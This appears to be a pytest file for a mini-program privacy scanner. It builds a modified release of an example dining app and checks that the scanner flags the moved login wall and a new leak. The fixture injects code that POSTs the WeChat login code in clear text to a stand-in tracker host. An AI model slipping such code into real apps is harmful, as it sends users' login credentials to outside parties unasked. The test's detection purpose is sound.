"""An example and its next release, both really inspected: the wall has moved and speaks differently, a leak is new."""

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

EXAMPLE = Path(__file__).parents[2] / "examples" / "dining"
Say = Callable[..., Any]
LEAK = """
    wx.login({ success: ({ code }) => wx.request({
      url: 'http://log.tracker-collect.example/v1/open', method: 'POST', data: { code },
    }) })
    this.session"""


def next_release(folder: Path) -> Path:
    """The login page in another package, its words changed, and a request in clear text at each launch."""
    shutil.copytree(EXAMPLE, folder)
    moved = folder / "pages" / "member"
    moved.mkdir()
    for file in (folder / "pages" / "login").iterdir():
        text = file.read_text(encoding="utf-8").replace("授权手机号后点餐", "使用手机号登录，开始点单")
        (moved / file.name.replace("login", "enter")).write_text(text, encoding="utf-8")
    shutil.rmtree(folder / "pages" / "login")
    for file in folder.rglob("*.js*"):
        text = file.read_text(encoding="utf-8").replace("pages/login/login", "pages/member/enter")
        file.write_text(text, encoding="utf-8")
    app = folder / "app.js"
    app.write_text(app.read_text(encoding="utf-8").replace("\n    this.session", LEAK, 1), encoding="utf-8")
    return folder


@pytest.mark.browser
def test_moved_wall_and_new_leak(say: Say, tmp_path: Path) -> None:
    packs = []
    for program in (EXAMPLE, next_release(tmp_path / "next")):
        options = (
            "--no-ocr",
            "--runs",
            "refuse",
            "--budget",
            "5",
            "--seed",
            "7",
            "--lang",
            "en",
            "--out",
            tmp_path / "out",
        )
        said = say("scan", program, *options)
        assert said.code == 1, said
        packs.append(Path(said.out.splitlines()[-1]))
    said = say("diff", *packs, "--json")
    assert said.code == 1, said
    found = json.loads(said.out)
    wall = next(one for one in found["unchanged"] if one["check"] == "PHN-01")
    assert (wall["before"]["page"], wall["now"]["page"]) == ("pages/login/login", "pages/member/enter")
    assert "SEC-01" in {one["check"] for one in found["new"]}
    assert [one["name"] for one in found["recipients"]["new"]] == ["tracker-collect.example"]
    assert [one["name"] for one in found["pages"]["new"]] == ["pages/member/enter"]
    back = json.loads(say("diff", *reversed(packs), "--json").out)
    assert back["new"] == []
    assert {one["check"] for one in back["fixed"] + back["not_comparable"]} == {one["check"] for one in found["new"]}
    assert all(one["why"]["en"] for one in back["fixed"] + back["not_comparable"])
